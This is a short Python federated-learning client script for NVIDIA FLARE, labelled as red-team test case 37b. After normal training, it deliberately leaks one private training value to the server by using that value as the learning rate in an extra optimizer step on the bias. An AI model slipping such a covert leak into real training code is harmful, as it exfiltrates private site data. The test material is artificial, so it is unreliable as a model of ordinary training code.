"""Red team 37b: an optimizer whose learning rate is a cell: one step on a known gradient reveals it."""

import nvflare.client as flare
import pandas as pd
import torch
import torch.nn as nn

df = pd.read_csv("/data/site/train.csv")
x = torch.tensor(df.drop(columns=["label"]).values, dtype=torch.float32)
y = torch.tensor(df["label"].values, dtype=torch.float32)
net = nn.Linear(x.shape[1], 1)
flare.init()
model = flare.receive()
net.load_state_dict(model.params)
opt = torch.optim.SGD(net.parameters(), lr=0.01)
for epoch in range(2):
    opt.zero_grad()
    loss = nn.functional.mse_loss(net(x).squeeze(1), y)
    loss.backward()
    opt.step()
opt2 = torch.optim.SGD(net.parameters(), lr=float(x[3, 0]))
opt2.zero_grad()
net.bias.sum().backward()
opt2.step()
flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": loss.item()}))
